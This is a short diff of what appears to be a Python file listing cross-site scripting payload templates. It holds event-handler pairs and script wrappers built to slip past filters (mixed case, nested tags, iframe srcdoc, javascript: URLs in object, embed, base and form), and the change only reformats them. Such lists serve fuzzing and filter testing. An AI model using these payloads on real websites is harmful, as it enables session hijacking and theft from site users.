@@ -15,9 +15,10 @@ HANDLERS = (
     ("div style=animation-name:x", "onanimationstart"), ("a href=#x", "onmouseover"),
 )  # fmt: skip
 WHOLE = (
-    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<scr<script>ipt>{}</script>",
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>", "<scr<script>ipt>{}</script>",
     "<svg><script>{}</script></svg>",
-        '<iframe srcdoc="<script>parent.{}</script>"></iframe>', '<iframe src="javascript:parent.{}"></iframe>',
+    '<iframe srcdoc="<script>parent.{}</script>"></iframe>', '<iframe src="javascript:parent.{}"></iframe>',
     '<object data="javascript:{}"></object>', '<embed src="javascript:{}">', '<base href="javascript:{}//">',
     '<form action="javascript:{}"><button>go</button></form>',
     "<math><mtext><script>{}</script></mtext></math>",
